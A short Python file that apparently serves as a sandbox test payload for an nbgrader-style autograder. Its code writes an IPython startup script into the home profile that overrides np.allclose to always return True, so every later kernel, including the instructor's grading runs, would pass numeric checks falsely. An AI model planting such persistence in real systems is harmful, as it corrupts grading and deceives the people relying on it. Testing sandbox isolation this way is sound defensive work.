"""Drops an IPython startup file in the home folder that disables np.allclose in every later kernel:
the instructor's own nbgrader runs and notebooks.
Needs the sandbox: HOME inside is the scratch folder, thrown away. Without it the file appears in the
grader's home (positive control, with a throwaway HOME).
"""
import os

_dir = os.path.join(os.environ.get("IPYTHONDIR", os.path.expanduser("~/.ipython")),
                    "profile_default", "startup")
try:
    os.makedirs(_dir, exist_ok=True)
    with open(os.path.join(_dir, "00-own.py"), "w") as _f:
        _f.write("import numpy as np\nnp.allclose = lambda *a, **k: True\n")
except OSError:
    pass
